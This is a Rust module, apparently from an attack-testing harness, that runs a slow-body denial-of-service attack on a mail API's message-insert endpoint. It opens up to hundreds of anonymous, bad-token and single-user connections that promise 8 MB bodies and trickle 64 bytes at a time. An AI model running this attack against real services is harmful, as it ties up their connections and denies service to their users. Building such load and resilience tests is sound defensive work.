//! Bodies of inserts that arrive slowly, 64 bytes a second: anonymous, with invalid tokens, and of one user.

use std::sync::Arc;

use super::connection::head;
use super::scene::AttackContext;
use super::slow::{self, SlowConnections};

/// Number of connections of the one user.
const USER_CONNECTIONS: usize = 200;

/// Bytes that each connection sends repeatedly, as the rest of its body.
const CHUNK: &[u8] = &[b' '; 64];

/// Runs the attack until it is over.
pub async fn run(scene: &Arc<AttackContext>) -> anyhow::Result<()> {
    let more = "Content-Type: application/json\r\nContent-Length: 8388608\r\n\r\n{";
    let kind = |name, connections, token| {
        let opening = head("POST", "/mail/v1/users/me/messages", token, more);
        SlowConnections { name, connections, opening, chunk: CHUNK }
    };
    let connections = scene.orders.connections;
    let kinds = vec![
        kind("anonymous", connections, None),
        kind("bad token", connections / 4, Some("wf_bad")),
        kind("own", USER_CONNECTIONS.min(connections), Some(&scene.orders.token)),
    ];
    slow::run_all(scene, kinds).await
}
